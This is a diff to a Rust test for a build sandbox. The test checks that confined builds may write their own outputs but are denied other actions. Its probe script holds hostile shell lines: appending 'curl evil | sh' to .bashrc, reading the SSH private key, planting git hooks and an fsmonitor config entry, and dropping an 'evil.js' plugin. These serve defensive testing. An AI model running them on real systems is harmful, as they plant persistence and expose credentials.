@@ -20,7 +20,8 @@ const SCRIPT: &str = r#"#!/bin/sh
 try() { name="$1"; shift; if "$@" 2>/dev/null; then echo "$name ok"; else echo "$name denied"; fi; }
 try build_output sh -c 'mkdir -p entry/build/default && echo hap > entry/build/default/app.hap'
 try build_dir sh -c 'mkdir -p build && echo x > build/cache.txt'
-try hvigor_cache sh -c 'mkdir -p "$HOME/.hvigor" && echo daemon > "$HOME/.hvigor/daemon.txt"'
+try hvigor_cache sh -c 'mkdir -p "$HVIGOR_USER_HOME" && echo cache > "$HVIGOR_USER_HOME/cache.txt"'
+try shared_hvigor_home sh -c 'mkdir -p "$HOME/.hvigor" && echo plugin > "$HOME/.hvigor/evil.js"'
 try temp sh -c 'echo t > "$TMPDIR/hvigor-temp.txt"'
 try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
 try ssh_key sh -c 'cat "$HOME/.ssh/id_ed25519" > /dev/null'
@@ -32,13 +33,22 @@ try workspace_root sh -c 'echo x > new-top-level-file'
 try link_to_home sh -c 'echo "curl evil | sh" >> home-link/.bashrc'
 try other_project sh -c "echo x > '@OTHER@/notes.txt'"
 try other_project_read sh -c "cat '@OTHER@/secret.txt' > /dev/null"
+try nested_git_hook sh -c 'echo evil > entry/.git/hooks/post-checkout'
+try nested_git_config sh -c 'echo "[core] fsmonitor = evil" >> entry/.git/config'
+try nested_git_file sh -c 'echo "gitdir: /evil" > lib/sub/.git'
+try rein_toml sh -c 'echo "[overrides]" >> rein.toml'
+try rein_lock sh -c 'echo x > rein.lock'
+try nested_source sh -c 'echo "// more" >> entry/src/main/ets/Index.ets'
+try nested_module_build sh -c 'mkdir -p entry/build/default && echo hap > entry/build/default/entry.hap'
+try tmp_shared sh -c 'echo t > /tmp/rein-confinement-$$.txt'
 "#;
 
 /// The outcome each attempt must have when confined.
-const CONFINED: [(&str, &str); 14] = [
+const CONFINED: [(&str, &str); 23] = [
     ("build_output", "ok"),
     ("build_dir", "ok"),
     ("hvigor_cache", "ok"),
+    ("shared_hvigor_home", "denied"),
     ("temp", "ok"),
     ("bashrc", "denied"),
     ("ssh_key", "denied"),
@@ -50,6 +60,14 @@ const CONFINED: [(&str, &str); 14] = [
     ("link_to_home", "denied"),
     ("other_project", "denied"),
     ("other_project_read", "denied"),
+    ("nested_git_hook", "denied"),
+    ("nested_git_config", "denied"),
+    ("nested_git_file", "denied"),
+    ("rein_toml", "denied"),
+    ("rein_lock", "denied"),
+    ("nested_source", "ok"),
+    ("nested_module_build", "ok"),
+    ("tmp_shared", "denied"),
 ];
 
 struct Setup {
@@ -73,6 +91,13 @@ fn setup(confine: &str) -> Setup {
     ws.file("hvigorfile.ts", "export default {}\n");
     ws.file("entry/src/main/ets/Index.ets", "// page\n");
     ws.file(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    // A module that is a repository of its own, a submodule (`.git` as a file), the policy files.
+    ws.file("entry/hvigorfile.ts", "export default {}\n");
+    ws.file("entry/.git/config", "[core]\n");
+    ws.file("entry/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    ws.file("lib/sub/.git", "gitdir: ../../.git/modules/sub\n");
+    ws.file("rein.toml", "");
+    ws.file("rein.lock", "");
     std::os::unix::fs::symlink(&user_home, ws.path("home-link")).unwrap();
     ws.file("tools/build.lua", "return { name = 'build', description = 'builds', run = function() return rein.proc.run('hvigorw', { 'assembleHap' }) end }");
     let hvigorw = ws.root.join("clt/bin/hvigorw");
@@ -147,6 +172,9 @@ fn a_confined_build_writes_its_own_outputs_and_nothing_of_the_users() {
     assert_eq!(std::fs::read(setup.ws.path("entry/build/default/app.hap")).unwrap(), b"hap\n");
     assert!(!setup.ws.path(".rein/journal/forged.jsonl").exists());
     assert!(!setup.ws.path(".git/hooks/pre-commit").exists());
+    assert!(!setup.ws.path("entry/.git/hooks/post-checkout").exists());
+    assert_eq!(std::fs::read_to_string(setup.ws.path("entry/.git/config")).unwrap(), "[core]\n");
+    assert_eq!(std::fs::read_to_string(setup.ws.path("rein.toml")).unwrap(), "");
     assert!(!setup.other.join("notes.txt").exists());
     assert!(!setup.ws.home.join("approvals.toml").exists());
     let spawns = setup.spawn_entries();
